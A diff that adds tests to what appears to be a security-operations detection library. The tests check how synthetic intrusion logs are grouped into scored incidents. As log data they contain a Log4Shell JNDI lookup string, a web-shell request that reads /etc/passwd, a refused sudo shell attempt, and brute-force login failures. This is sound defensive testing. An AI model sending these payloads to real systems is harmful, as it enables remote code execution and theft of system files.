@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import orjson
+
 from soc.detection.stories.tactics import tactics_of
 from tests.detection.lines import at, failure, failures, missing, success
 from tests.logs.reading import read, read_uploads
@@ -114,3 +116,63 @@ def test_an_attack_is_told_of_alone_though_its_address_also_guessed_as_four_othe
     assert [one.entity for one in done.incidents if one is not story] == [
         f"198.51.100.{n}" for n in range(1, 5)
     ]
+
+
+def test_an_attack_that_many_addresses_try_once_is_one_incident_and_one_that_came_through_is_its_own() -> (
+    None
+):
+    jndi = "/?x=${jndi:ldap://198.51.100.99/a}"
+    tried = "".join(missing(n, jndi, address=f"203.0.113.{n}") for n in range(6))
+    (campaign,) = read(tried).incidents
+    assert (campaign.count, campaign.score) == (6, 8)
+    assert campaign.title.startswith("Log4Shell from 6 addresses: 6 lines")
+    done = read(tried + missing(9, "/u/a.php?cmd=cat%20/etc/passwd", address="203.0.113.50", status=200))
+    assert sorted(one.count for one in done.incidents) == [1, 6]
+
+
+def test_a_campaign_that_is_aimed_at_one_account_is_an_alarm() -> None:
+    def tries(addresses: int, user: str = "ann.berg") -> str:
+        return "".join(
+            failure(60 * n + again, f"198.51.100.{n}", user) for n in range(addresses) for again in range(2)
+        )
+
+    (aimed,) = read(tries(10)).incidents
+    assert aimed.score == sum(reason.weight for reason in aimed.reasons) == 8
+    assert aimed.reasons[-1].title == "10 addresses tried to come in as ann.berg"
+    (few,) = read(tries(9)).incidents
+    others = "".join(failure(n, f"203.0.113.{n}", f"user{n}") for n in range(5))
+    (spread,) = read(tries(10) + others).incidents
+    assert [one.score for one in (few, spread)] == [5, 5]
+
+
+def test_what_is_refused_to_somebody_else_after_a_break_in_is_no_step_of_it() -> None:
+    refused = (
+        f"{at(90)} h sudo: ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n"
+    )
+    done = read(failures(6) + success(60) + refused)
+    assert [one.count for one in done.incidents] == [7, 1]
+
+
+def windows(seconds: float, code: int, host: str, **data: str) -> str:
+    provider = "Microsoft-Windows-Security-Auditing"
+    data = {"SubjectUserName": "eve", **data}
+    return f'{{"@timestamp": "{at(seconds)}", "EventID": {code}, "Channel": "Security", "Provider": "{provider}", "Computer": "{host}", "EventData": {orjson.dumps(data).decode()}}}\n'
+
+
+def test_where_an_account_came_from_is_a_step_of_what_it_did_there() -> None:
+    here = {"TargetUserName": "eve", "IpAddress": "10.0.1.99", "LogonType": "3"}
+    deeds = "".join(windows(300 + n, 4719, host) for n, host in enumerate(("fs1", "fs2")))
+    came = windows(0, 4624, "fs1", **here) + windows(1, 4624, "fs2", **here)
+    long_ago = windows(-4000, 4624, "fs1", **here)
+    done = read(long_ago + came + deeds, "win.jsonl")
+    (story,) = done.incidents
+    assert (story.count, story.score) == (4, 8)
+    assert {("ip", "10.0.1.99"), ("user", "eve")} <= {(one.type, one.value) for one in story.entities}
+    assert " from " not in story.title
+
+
+def test_new_rights_and_records_taken_away_raise_by_a_point() -> None:
+    group = windows(0, 4732, "fs1", TargetUserName="Administrators", MemberName="CN=x")
+    (story,) = read(group + windows(60, 4719, "fs1"), "win.jsonl").incidents
+    assert "story.covered" in {reason.signature for reason in story.reasons}
+    assert story.score == sum(reason.weight for reason in story.reasons)
